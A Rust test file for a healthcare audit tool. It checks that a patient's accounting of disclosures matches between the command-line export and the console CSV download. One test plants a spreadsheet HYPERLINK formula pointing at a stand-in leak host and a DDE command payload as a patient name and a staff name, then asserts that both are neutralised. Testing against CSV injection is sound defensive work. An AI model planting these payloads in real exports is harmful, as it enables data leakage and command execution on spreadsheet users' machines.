//! A patient's accounting of disclosures (45 CFR 164.528(b)(2)): `ward audit export` and the
//! console's CSV download are one document, and no cell of it can run as a spreadsheet formula.

use crate::both;
use crate::console::Browser;
use crate::fixtures::chart;
use crate::helpers::*;
use sea_orm::{ActiveModelTrait, EntityTrait};
use serde_json::json;

const PHI_READ: &str = "query($id: ID!) { patient(id: $id) { name dateOfBirth memberId } }";

/// The columns, in order: date, who received it, what was disclosed, why, and how; then the
/// same in words, and how many times that day.
const COLUMNS: [&str; 17] = [
    "date",
    "recipient_name",
    "recipient_sub",
    "recipient_roles",
    "phi_classes",
    "record_type",
    "record_id",
    "purpose",
    "outcome",
    "request_id",
    "audit_seq",
    "recipient_title",
    "times",
    "last_date",
    "what",
    "why",
    "audit_seqs",
];

/// `ward audit export --patient`, as an operator runs it.
async fn exported(app: &TestApp, patient: uuid::Uuid) -> String {
    let output = ward()
        .args(["audit", "export", "--database-url", &app.test_db.url, "--patient", &patient.to_string()])
        .args(["--prepared-by", "cora"])
        .output()
        .await
        .unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    String::from_utf8(output.stdout).unwrap()
}

/// The console's "Download as CSV", as compliance (cora) clicks it.
async fn downloaded(app: &TestApp, patient: uuid::Uuid) -> String {
    let mut browser = Browser::new(app);
    browser.sign_in("cora").await;
    let (status, csv, headers) = browser.get(&format!("/compliance/patients/{patient}/disclosures.csv")).await;
    assert_eq!(status, 200, "{csv}");
    assert_eq!(headers["content-type"], "text/csv; charset=utf-8");
    csv
}

fn rows(csv: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(csv.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

/// The table under the heading that names the patient, the period and who prepared it.
fn table(csv: &str) -> Vec<Vec<String>> {
    rows(csv).split_off(tools::compliance::accounting::PREAMBLE_LINES)
}

/// The heading, but for the time it was prepared at (which two exports never share).
fn heading(csv: &str) -> Vec<Vec<String>> {
    let mut rows = rows(csv);
    rows.truncate(tools::compliance::accounting::PREAMBLE_LINES);
    rows.retain(|r| r[0] != "Prepared at");
    rows
}

/// Reads `query` as `sub`, stating `purpose`.
async fn with_purpose(app: &TestApp, sub: &str, purpose: &str, query: &str, variables: serde_json::Value) {
    let response = app
        .client
        .post(app.url("/graphql"))
        .bearer_auth(app.token(sub))
        .header("x-ward-purpose", purpose)
        .json(&json!({ "query": query, "variables": variables }))
        .send()
        .await
        .unwrap();
    let body: serde_json::Value = response.json().await.unwrap();
    assert!(body["errors"].is_null(), "{body}");
}

both!(the_cli_and_the_console_write_the_same_accounting_of_a_patient, |app| {
    let chart = chart(&app, 0).await;
    let patient = entities::patient::Entity::find_by_id(chart.patient).one(&app.db).await.unwrap().unwrap();
    // A read by role, one under a stated purpose, a search, and one by break-glass.
    app.gql("owen", PHI_READ, json!({ "id": chart.patient })).await;
    with_purpose(&app, "owen", &format!("claim:{}", chart.claim), PHI_READ, json!({ "id": chart.patient })).await;
    let search = "query($s: String!) { patients(search: $s, first: 50) { edges { node { id } } } }";
    app.gql("alice", search, json!({ "s": patient.last_name })).await;
    let open = "mutation($p: ID!, $why: String!) { requestBreakGlass(patientId: $p, reason: $why) { id } }";
    let why = "Patient called in crisis; confirming identity to dispatch help";
    assert!(app.gql("alice", open, json!({ "p": chart.patient, "why": why })).await["errors"].is_null());
    app.gql("alice", "query($id: ID!) { patient(id: $id) { dateOfBirth } }", json!({ "id": chart.patient })).await;

    // The command line first: the console's download is itself a disclosure to compliance
    // (the patient named at its top), which an accounting prepared after it lists.
    let cli = exported(&app, chart.patient).await;
    let console = downloaded(&app, chart.patient).await;
    assert_eq!(table(&cli)[0], COLUMNS, "{cli}");
    assert_eq!(table(&console)[0], COLUMNS, "{console}");
    assert_eq!(table(&cli), table(&console), "one accounting, whoever exports it");
    assert_eq!(heading(&cli), heading(&console), "{cli}\n{console}");
    let named = heading(&cli);
    assert_eq!(
        named[0][..2],
        ["Accounting of disclosures of".to_owned(), format!("{} {}", patient.first_name, patient.last_name)]
    );
    assert_eq!(named[1][1], patient.date_of_birth.to_string());
    assert_eq!(named[4][..2], ["Prepared by", "Cora Lindqvist, Privacy Officer"], "{cli}");

    let body = &table(&cli)[1..];
    assert_eq!(body.len(), 5, "four disclosures and the emergency access that opened one: {cli}");
    let seqs: Vec<i64> = body.iter().map(|r| r[10].parse().unwrap()).collect();
    assert!(seqs.windows(2).all(|w| w[0] < w[1]), "oldest first: {cli}");
    assert!(
        body.iter()
            .all(|r| chrono::DateTime::parse_from_rfc3339(&r[0]).is_ok_and(|d| d.offset().local_minus_utc() == 0))
    );
    assert_eq!(
        body[0][1..=6],
        ["Owen Becker", "owen", "ops", "contact,identity", "patient", &chart.patient.to_string()]
    );
    assert_eq!((body[0][7].as_str(), body[0][8].as_str()), ("none stated", "allowed"));
    assert_eq!(body[1][7], format!("claim:{}", chart.claim), "the stated purpose");
    assert_eq!(body[2][2], "alice");
    assert_eq!(body[2][7], format!("matched contact search {:?}", patient.last_name), "a search's term is its why");
    assert_eq!(body[3][5], "break_glass", "the opening of emergency access has its own line: {cli}");
    assert!(body[3][14].starts_with("Opened emergency access") && body[3][15].ends_with(why), "{cli}");
    assert_eq!((body[4][4].as_str(), body[4][8].as_str()), ("identity", "break_glass"), "{cli}");
    assert_eq!((body[0][11].as_str(), body[0][12].as_str()), ("Claims Specialist", "1"), "title and count");
});

both!(a_formula_in_what_the_accounting_records_is_neutralised_in_both_exports, |app| {
    let chart = chart(&app, 0).await;
    let formula = "=HYPERLINK(\"https://evil.example/?leak\",\"Open\")";
    // A name that is a formula, found by searching for it: the term is recorded as the reason.
    let mut renamed: entities::patient::ActiveModel =
        entities::patient::Entity::find_by_id(chart.patient).one(&app.db).await.unwrap().unwrap().into();
    renamed.last_name = sea_orm::Set(formula.to_owned());
    renamed.update(&app.db).await.unwrap();
    let search = "query($s: String!) { patients(search: $s) { edges { node { id } } } }";
    let found = app.gql("alice", search, json!({ "s": formula })).await;
    assert_eq!(found["data"]["patients"]["edges"].as_array().map(Vec::len), Some(1), "{found}");
    // And the recipient's display name, as whoever provisions staff typed it.
    let name = "@SUM(1+1)*cmd|' /C calc'!A0";
    app.sql(&format!("UPDATE staff SET display_name = '{}' WHERE sub = 'owen'", name.replace('\'', "''"))).await;
    app.gql("owen", PHI_READ, json!({ "id": chart.patient })).await;

    for csv in [exported(&app, chart.patient).await, downloaded(&app, chart.patient).await] {
        let rows = rows(&csv);
        for cell in rows.iter().flatten() {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']), "{cell:?} in {csv}");
        }
        let search = rows.iter().find(|r| r[2] == "alice").unwrap();
        assert!(search[7].contains(&format!("{formula:?}")), "the term, kept: {csv}");
        let read = rows.iter().find(|r| r[2] == "owen").unwrap();
        assert_eq!(read[1], format!("'{name}"), "prefixed with a quote, as OWASP advises: {csv}");
    }
});
